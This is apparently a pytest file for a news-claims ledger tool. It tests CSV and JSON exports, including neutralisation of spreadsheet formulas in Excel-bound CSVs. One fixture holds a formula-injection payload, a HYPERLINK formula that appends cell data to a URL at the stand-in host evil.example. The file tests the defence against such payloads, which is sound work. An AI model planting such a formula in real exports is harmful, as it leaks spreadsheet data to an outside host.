"""CSV exports an editor opens in a spreadsheet."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from ledger import api
from ledger import export as export_mod
from ledger.cli import cli


@pytest.fixture(scope="module")
def ledger_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    seeds = Path(__file__).resolve().parents[1] / "seeds"
    return api.build([seeds], tmp_path_factory.mktemp("l") / "ledger.db").db


def read(path: Path, encoding: str = "utf-8") -> list[dict[str, str]]:
    with path.open(encoding=encoding, newline="") as fh:
        return list(csv.DictReader(fh))


def test_findings_csv_has_readable_columns_and_every_finding(
    ledger_db: Path, tmp_path: Path
) -> None:
    out = tmp_path / "findings.csv"
    result = CliRunner().invoke(
        cli, ["export", "findings", "--db", str(ledger_db), "--out", str(out)]
    )
    assert result.exit_code == 0, result.output
    rows = read(out)
    assert len(rows) == len(api.findings(ledger_db))
    assert list(rows[0])[:7] == [
        "verdict", "severity", "property", "about", "document A", "outlet A", "value A",
    ]  # fmt: skip
    first = next(r for r in rows if r["property"] == "date")
    assert rows[0]["verdict"] == "contradiction"  # contradictions come first
    assert (first["verdict"], first["value A"], first["value B"]) == (
        "contradiction",
        "9 Januari",
        "10 Januari 2022",
    )
    assert first["outlet A"] == "KONTAN.CO.ID"
    assert "Jenewa pada 9 Januari" in first["quote A"]
    assert {"explanation", "rule", "review status", "review note"} <= set(first)
    assert not out.read_bytes().startswith(b"\xef\xbb\xbf")


def test_excel_csv_starts_with_a_byte_order_mark(ledger_db: Path, tmp_path: Path) -> None:
    out = tmp_path / "excel.csv"
    n = api.export("findings", ledger_db, out, excel=True, verdict="consistent")
    assert out.read_bytes().startswith(b"\xef\xbb\xbf")
    rows = read(out, "utf-8-sig")
    assert len(rows) == n > 0
    assert {r["verdict"] for r in rows} == {"consistent"}
    assert any("–" in r["explanation"] for r in rows)  # 90–120 min survives the round trip


@pytest.mark.parametrize(
    ("args", "check"),
    [
        (["--property", "duration"], lambda r: r["property"] == "duration"),
        (
            ["--document", "001_bbc9e7314229fa33.txt"],
            lambda r: r["document"] == "001_bbc9e7314229fa33.txt",
        ),
    ],
)
def test_claims_csv_filters(
    ledger_db: Path, tmp_path: Path, args: list[str], check: object
) -> None:
    out = tmp_path / "claims.csv"
    result = CliRunner().invoke(
        cli, ["export", "claims", "--db", str(ledger_db), "--out", str(out), *args]
    )
    assert result.exit_code == 0, result.output
    rows = read(out)
    assert rows and all(check(r) for r in rows)  # type: ignore[operator]
    assert {"sentence", "value", "read as", "start", "end", "event"} <= set(rows[0])


def test_claims_have_no_verdict(ledger_db: Path, tmp_path: Path) -> None:
    result = CliRunner().invoke(
        cli,
        [
            "export",
            "claims",
            "--db",
            str(ledger_db),
            "--out",
            str(tmp_path / "x.csv"),
            "--verdict",
            "consistent",
        ],
    )
    assert result.exit_code == 1
    assert "claims have no verdict" in result.output


# --- formulas: exact for machines, inert for spreadsheets ----------------------------------

FORMULA_OUTLET = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
FORMULA_NOTE = "@redaksi -- cek ulang"


@pytest.fixture(scope="module")
def formula_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The seeds, one renamed "+003.txt" and one with a formula for its outlet, and a
    review note that starts with "@": what outlets, file names and editors can write."""
    seeds = Path(__file__).resolve().parents[1] / "seeds"
    folder = tmp_path_factory.mktemp("formulas")
    for seed in seeds.glob("*.txt"):
        name = "+003.txt" if seed.name.startswith("003") else seed.name
        (folder / name).write_bytes(seed.read_bytes())
    stem = next(seeds.glob("002_*.txt")).stem
    (folder / f"{stem}.meta.yaml").write_text(f"outlet: '{FORMULA_OUTLET}'\n", encoding="utf-8")
    db = api.build([folder], tmp_path_factory.mktemp("l") / "ledger.db").db
    finding = next(f for f in api.findings(db) if "+003.txt" in (f["document_a"], f["document_b"]))
    api.review(db, finding["finding_id"], "confirmed", FORMULA_NOTE)
    return db


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+62 21 555", "'+62 21 555"),
        ("-2 jam", "'-2 jam"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("1 jam 45 menit", "1 jam 45 menit"),
        ("a=b", "a=b"),
        ("", ""),
        (-5, -5),
        (0.85, 0.85),
    ],
)
def test_excel_cell_neutralises_formulas_only(value: object, cell: object) -> None:
    assert export_mod.excel_cell(value) == cell


def formula_cells(rows: list[dict[str, str]]) -> set[str]:
    return {
        v
        for r in rows
        for v in r.values()
        if v.lstrip("'") in (FORMULA_OUTLET, FORMULA_NOTE, "+003.txt")
    }


def test_plain_csv_keeps_formulas_exact(formula_db: Path, tmp_path: Path) -> None:
    """Plain CSV is for machines: every cell exactly what the ledger holds."""
    out = tmp_path / "findings.csv"
    api.export("findings", formula_db, out)
    assert formula_cells(read(out)) == {FORMULA_OUTLET, FORMULA_NOTE, "+003.txt"}
    api.export("claims", formula_db, out)
    assert formula_cells(read(out)) == {FORMULA_OUTLET, "+003.txt"}


def test_excel_csv_neutralises_formulas(formula_db: Path, tmp_path: Path) -> None:
    """--excel is for people: no cell a spreadsheet would run as a formula."""
    out = tmp_path / "findings.csv"
    runner = CliRunner()
    result = runner.invoke(
        cli, ["export", "findings", "--db", str(formula_db), "--out", str(out), "--excel"]
    )
    assert result.exit_code == 0, result.output
    rows = read(out, "utf-8-sig")
    assert formula_cells(rows) == {f"'{FORMULA_OUTLET}", f"'{FORMULA_NOTE}", "'+003.txt"}
    starts = tuple(export_mod.FORMULA_STARTS)
    assert not [v for r in rows for v in r.values() if v.startswith(starts)]
    assert {r["verdict"] for r in rows} <= {"contradiction", "variant", "consistent"}
    assert all(float(r["confidence"]) >= 0 for r in rows if r["confidence"])
    assert out.read_text("utf-8-sig").startswith('"verdict","severity"')  # every cell quoted
    api.export("claims", formula_db, out, excel=True)
    assert formula_cells(read(out, "utf-8-sig")) == {f"'{FORMULA_OUTLET}", "'+003.txt"}


# --- JSON: the findings CSV's rows for machines, typed -------------------------------------


def test_findings_json_has_the_csv_rows_with_types(formula_db: Path, tmp_path: Path) -> None:
    """The same rows and columns as the findings CSV, keyed by column name: numbers
    as numbers, null where the CSV cell is empty, text exactly as the ledger holds it."""
    csv_out, json_out = tmp_path / "findings.csv", tmp_path / "findings.json"
    api.export("findings", formula_db, csv_out)
    result = CliRunner().invoke(
        cli,
        ["export", "findings", "--db", str(formula_db), "--out", str(json_out), "--format", "json"],
    )
    assert result.exit_code == 0, result.output
    rows = json.loads(json_out.read_text(encoding="utf-8"))
    table = read(csv_out)
    assert isinstance(rows, list) and len(rows) == len(table) > 0
    assert [r["finding_id"] for r in rows] == [r["finding id"] for r in table]
    keys = [key for key, _ in export_mod.FINDING_COLUMNS]
    assert all(list(r) == keys for r in rows)
    for row, cells in zip(rows, table, strict=True):
        for (key, label), value in zip(export_mod.FINDING_COLUMNS, row.values(), strict=True):
            assert (value is None) == (cells[label] == ""), (key, value)
            if value is not None:
                assert str(value) == cells[label]
    assert all(isinstance(r["confidence"], float) for r in rows)
    assert any(r["review_status"] is None for r in rows)  # unreviewed: null, not ""
    assert {r["review_note"] for r in rows} >= {FORMULA_NOTE, None}  # exact, not neutralised
    one_claim = [r for r in rows if r["document_b"] is None]
    assert all(r["value_b"] is None and r["outlet_b"] is None for r in one_claim)


def test_claims_json_keeps_offsets_as_numbers(ledger_db: Path, tmp_path: Path) -> None:
    out = tmp_path / "claims.json"
    n = api.export("claims", ledger_db, out, format="json", property="duration")
    rows = json.loads(out.read_text(encoding="utf-8"))
    assert len(rows) == n > 0
    assert all(isinstance(r["start"], int) and isinstance(r["end"], int) for r in rows)
    assert all(isinstance(r["value_lo"], float | int) for r in rows)  # minutes


def test_json_refuses_excel(ledger_db: Path, tmp_path: Path) -> None:
    out = str(tmp_path / "f.json")
    args = ["export", "findings", "--db", str(ledger_db), "--out", out, "--format", "json"]
    result = CliRunner().invoke(cli, [*args, "--excel"])
    assert result.exit_code == 1
    assert "--excel" in result.output
